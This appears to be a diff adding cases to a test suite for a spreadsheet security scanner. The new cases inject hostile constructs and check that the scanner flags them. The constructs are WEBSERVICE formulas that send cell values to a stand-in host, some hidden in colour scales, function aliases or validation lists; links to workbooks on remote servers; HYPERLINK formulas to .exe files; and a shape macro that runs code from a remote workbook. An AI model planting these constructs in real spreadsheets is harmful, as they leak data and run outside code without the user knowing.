@@ -34,6 +34,7 @@ from tests.hostile.looks import (
     over,
     page,
     row_told,
+    shape,
     styled,
 )
 from tests.hostile.submission import bundle, part_of
@@ -251,7 +252,30 @@ FURTHER: tuple[Case, ...] = (
             replaced(CHART, "<c:cat>", '<c:dPt><c:idx val="2"/><c:spPr><a:noFill/></c:spPr></c:dPt><c:cat>')),
 )  # fmt: skip
 
+BUTTON = shape("Open").replace('macro=""', 'macro="{}"')
 RUNNING: tuple[Case, ...] = (
+    Case("organization taken out of the stamp", ROW, ("names",), "findings", ("PG126",),
+         replaced("xl/worksheets/sheet14.xml", '(<c r="B7"[^>]*>).*?</c>', r"\1<is><t></t></is></c>"), found="organization"),
+    Case("scale of colours that fetches", ROW, ("rules that run",), "findings", ("PG128",),
+         condition("dashboard", "M70", SCALE.replace('type="min"', 'type="formula" val="WEBSERVICE(A1)"'))),
+    Case("function handed over", ROW, ("rules that run",), "findings", ("PG128",),
+         beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "M", 8)),
+    Case("function under another name", ROW, ("rules that run",), "findings", ("PG128",),
+         beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "M", 8)),
+    Case("shape with a program of another file", ROW, ("shapes",), "findings", ("PG128",),
+         drawn(over((40, 13), (44, 16), BUTTON.format("&apos;\\\\host\\x.xlsm&apos;!run")))),
+    altered("cell of a workbook on a server", "names", "PG118",
+            beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+    altered("cell of a workbook on the web", "names", "PG118",
+            beside_cell("><f>'http://host/[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+    altered("cell of a file in another spelling", "names", "PG118",
+            beside_cell("><f>'file:///home/x.xlsx'#$S.A1</f><v>0</v>", "M", 8)),
+    altered("name of a cell on a server", "names", "PG118",
+            swap(WORKBOOK, "<definedNames>", "<definedNames><definedName name=\"far\">'\\\\host\\s\\[b.xlsx]S'!$A$1</definedName>")),
+    altered("link to a server by a formula", "hyperlinks", "PG120",
+            beside_cell('><f>HYPERLINK("\\\\host\\x.exe","x")</f><v>0</v>', "M", 8)),
+    altered("link to a file by a formula", "hyperlinks", "PG120",
+            beside_cell('><f>HYPERLINK("file:///c:/x.exe","x")</f><v>0</v>', "M", 8)),
     Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
          swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
     Case("condition that calls", ROW, ("rules that run",), "findings", ("PG128",),
